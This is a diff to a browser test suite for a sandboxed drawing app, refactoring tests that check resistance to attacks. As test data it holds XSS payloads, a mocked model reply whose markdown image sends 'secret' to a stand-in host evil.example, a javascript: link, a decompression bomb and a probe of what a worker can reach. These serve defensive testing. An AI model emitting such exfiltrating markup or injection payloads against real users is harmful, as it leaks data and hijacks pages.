@@ -2,7 +2,7 @@
 // What is typed and how it must end comes from the native suite (tests/it/attacks), so both try the same.
 import { readFileSync } from "node:fs";
 import { deflateRawSync } from "node:zlib";
-import { assert, assertEqual, test } from "../harness.mjs";
+import { assert, assertEqual, test, TIMED } from "../fixtures.mjs";
 import { KEY, reply, startMock, text } from "../mock-anthropic.mjs";
 import {
   connect,
@@ -47,7 +47,7 @@ async function openWith(run, script, argument) {
 }
 
 for (const { item, code, outcome } of ATTACKS) {
-  test(`attack: item ${item} ends with ${outcome} and the next run works within a second`, async (run) => {
+  test(`attack: item ${item} ends with ${outcome} and the next run works within a second`, TIMED, async ({ run }) => {
     const page = await openApp(run);
     await drawCircles(page, "before");
     await watchMainThread(page);
@@ -73,7 +73,7 @@ for (const { item, code, outcome } of ATTACKS) {
   });
 }
 
-test("attack: markup is text in the tree, the log, problems and the preview", async (run) => {
+test("attack: markup is text in the tree, the log, problems and the preview", async ({ run }) => {
   const page = await openApp(run);
   page.on("dialog", (dialog) => run.problems.push(`a dialog: ${dialog.message()}`));
   const texts = ['<img src=x onerror=alert(1)>', '"><script>alert(2)</script>', "</text><foreignObject>", "{{7*7}}", "&lt;b&gt;"];
@@ -98,7 +98,7 @@ test("attack: markup is text in the tree, the log, problems and the preview", as
   await clean("in the preview");
 });
 
-test("attack: what a model writes is text, without links, pictures or markup", async (run) => {
+test("attack: what a model writes is text, without links, pictures or markup", async ({ run }) => {
   const words =
     "Here ![](https://evil.example/?q=secret) and [a link](javascript:alert(1)) and <img src=x onerror=alert(1)> <script>alert(1)</script> **done**";
   const mock = await startMock({ turns: [reply(text(words))] });
@@ -129,7 +129,7 @@ function crc32(bytes) {
   return (~crc >>> 0).toString(16).padStart(8, "0");
 }
 
-test("attack: a link that unpacks to a gigabyte is refused at once", async (run) => {
+test("attack: a link that unpacks to a gigabyte is refused at once", TIMED, async ({ run }) => {
   const packed = deflateRawSync(Buffer.alloc(1 << 28, 32), { level: 9 });
   // Four blocks of a quarter of a gigabyte would not fit into an address; one is enough to fill a tab.
   const encoded = packed.toString("base64url");
@@ -190,7 +190,7 @@ function forgeWorkers() {
   };
 }
 
-test("attack: whatever a worker answers, the drawing stays and the next run works", async (run) => {
+test("attack: whatever a worker answers, the drawing stays and the next run works", async ({ run }) => {
   const page = await openWith(run, forgeWorkers);
   page.on("dialog", (dialog) => run.problems.push(`a dialog: ${dialog.message()}`));
   await drawCircles(page, "before");
@@ -231,7 +231,7 @@ test("attack: whatever a worker answers, the drawing stays and the next run work
   }
 });
 
-test("attack: never more than two workers, and no outcome is lost", async (run) => {
+test("attack: never more than two workers, and no outcome is lost", async ({ run }) => {
   const page = await openWith(run, forgeWorkers);
   await drawCircles(page, "first");
   for (let at = 0; at < 20; at += 1) await typeCode(page, `drawCircle("quick_${at}", 0, 0, 5);`);
@@ -245,77 +245,71 @@ test("attack: never more than two workers, and no outcome is lost", async (run) 
   assert(most <= 2, `${most} workers were alive at once`);
 });
 
-test(
-  "attack: without an engine the page says so and everything else works",
-  async (run) => {
-    const answers = [
-      ["sandbox_bg.wasm", { status: 404, body: "not found" }, /could not be loaded/],
-      ["sandbox_bg.wasm", { status: 200, contentType: "application/wasm", body: "no wasm" }, /could not be loaded/],
-      ["sandbox.js", { status: 404, body: "not found" }, /could not be loaded/],
-      ["sandbox.js", { status: 200, contentType: "text/javascript", body: "this is no code" }, /could not be loaded/],
-      [
-        "sandbox.js",
-        {
-          status: 200,
-          contentType: "text/javascript",
-          body: 'const wasm_bindgen = { initSync() {}, protocol: () => 1, build: () => "0.0.1" };',
-        },
-        /another version/,
-      ],
-    ];
-    for (const [file, answer, says] of answers) {
-      const page = await run.newPage();
-      const broken = (url) => url.pathname.endsWith(`/${file}`);
-      await page.route(broken, (route) => route.fulfill(answer));
-      await page.goto(run.url);
-      await ready(page);
-      await typeCode(page, 'drawCircle("now", 0, 0, 5);');
-      const said = await problem(page, says);
-      run.note(`${file}: ${said.trim().slice(0, 130)}`);
-      await page.locator(hook("share")).click();
-      await page.locator(hook("share-link")).click();
-      await page.locator(hook("export-as-is")).click();
-      await page.waitForSelector(hook("share-url"));
-      await page.locator(hook("close-share")).click();
-      await page.waitForSelector(hook("share-dialog"), { state: "detached" });
-      await page.unroute(broken);
-      // The next run asks for the engine again.
-      await drawCircles(page, "mended");
-      await page.waitForSelector(hook("problem"), { state: "detached" });
-    }
-  },
-  { allow: [/Failed to load resource/, /404/, /SyntaxError/, /WebAssembly/, /sandbox/] },
-);
-
-test(
-  "attack: a worker has no network, no storage and no other workers",
-  async (run) => {
-    const glue = `
-      const found = [];
-      const names = "fetch XMLHttpRequest WebSocket EventSource WebTransport RTCPeerConnection importScripts indexedDB caches " +
-        "cookieStore BroadcastChannel Worker SharedWorker MessageChannel navigator location postMessage setTimeout " +
-        "setInterval requestAnimationFrame queueMicrotask structuredClone createImageBitmap FontFace Notification " +
-        "FileReader FileReaderSync Blob File URL OffscreenCanvas StorageManager";
-      for (const name of names.split(" ")) {
-        for (let level = self; level; level = Object.getPrototypeOf(level)) {
-          if (Object.getOwnPropertyDescriptor(level, name)?.value || Object.getOwnPropertyDescriptor(level, name)?.get) found.push(name);
-        }
-      }
-      for (const make of [() => eval("1"), () => new Function("return fetch")(), () => (async () => {}).constructor("return fetch")()]) {
-        try { make(); found.push("code from text"); } catch {}
-      }
-      const wasm_bindgen = { initSync() {}, protocol: () => 1, build: () => "found[" + found.join(",") + "]" };`;
+test("attack: without an engine the page says so and everything else works", async ({ run }) => {
+  run.allow(/Failed to load resource/, /404/, /SyntaxError/, /WebAssembly/, /sandbox/);
+  const answers = [
+    ["sandbox_bg.wasm", { status: 404, body: "not found" }, /could not be loaded/],
+    ["sandbox_bg.wasm", { status: 200, contentType: "application/wasm", body: "no wasm" }, /could not be loaded/],
+    ["sandbox.js", { status: 404, body: "not found" }, /could not be loaded/],
+    ["sandbox.js", { status: 200, contentType: "text/javascript", body: "this is no code" }, /could not be loaded/],
+    [
+      "sandbox.js",
+      {
+        status: 200,
+        contentType: "text/javascript",
+        body: 'const wasm_bindgen = { initSync() {}, protocol: () => 1, build: () => "0.0.1" };',
+      },
+      /another version/,
+    ],
+  ];
+  for (const [file, answer, says] of answers) {
     const page = await run.newPage();
-    await page.route(
-      (url) => url.pathname.endsWith("/sandbox.js"),
-      (route) => route.fulfill({ status: 200, contentType: "text/javascript", body: glue }),
-    );
+    const broken = (url) => url.pathname.endsWith(`/${file}`);
+    await page.route(broken, (route) => route.fulfill(answer));
     await page.goto(run.url);
     await ready(page);
     await typeCode(page, 'drawCircle("now", 0, 0, 5);');
-    const said = await problem(page, /found\[/);
-    run.note(said.trim().slice(0, 160));
-    assert(said.includes("found[]"), `what a worker can reach: ${said}`);
-  },
-  { allow: [/Content.Security.Policy|unsafe-eval|CSP/] },
-);
+    const said = await problem(page, says);
+    run.note(`${file}: ${said.trim().slice(0, 130)}`);
+    await page.locator(hook("share")).click();
+    await page.locator(hook("share-link")).click();
+    await page.locator(hook("export-as-is")).click();
+    await page.waitForSelector(hook("share-url"));
+    await page.locator(hook("close-share")).click();
+    await page.waitForSelector(hook("share-dialog"), { state: "detached" });
+    await page.unroute(broken);
+    // The next run asks for the engine again.
+    await drawCircles(page, "mended");
+    await page.waitForSelector(hook("problem"), { state: "detached" });
+  }
+});
+
+test("attack: a worker has no network, no storage and no other workers", async ({ run }) => {
+  run.allow(/Content.Security.Policy|unsafe-eval|CSP/);
+  const glue = `
+    const found = [];
+    const names = "fetch XMLHttpRequest WebSocket EventSource WebTransport RTCPeerConnection importScripts indexedDB caches " +
+      "cookieStore BroadcastChannel Worker SharedWorker MessageChannel navigator location postMessage setTimeout " +
+      "setInterval requestAnimationFrame queueMicrotask structuredClone createImageBitmap FontFace Notification " +
+      "FileReader FileReaderSync Blob File URL OffscreenCanvas StorageManager";
+    for (const name of names.split(" ")) {
+      for (let level = self; level; level = Object.getPrototypeOf(level)) {
+        if (Object.getOwnPropertyDescriptor(level, name)?.value || Object.getOwnPropertyDescriptor(level, name)?.get) found.push(name);
+      }
+    }
+    for (const make of [() => eval("1"), () => new Function("return fetch")(), () => (async () => {}).constructor("return fetch")()]) {
+      try { make(); found.push("code from text"); } catch {}
+    }
+    const wasm_bindgen = { initSync() {}, protocol: () => 1, build: () => "found[" + found.join(",") + "]" };`;
+  const page = await run.newPage();
+  await page.route(
+    (url) => url.pathname.endsWith("/sandbox.js"),
+    (route) => route.fulfill({ status: 200, contentType: "text/javascript", body: glue }),
+  );
+  await page.goto(run.url);
+  await ready(page);
+  await typeCode(page, 'drawCircle("now", 0, 0, 5);');
+  const said = await problem(page, /found\[/);
+  run.note(said.trim().slice(0, 160));
+  assert(said.includes("found[]"), `what a worker can reach: ${said}`);
+});
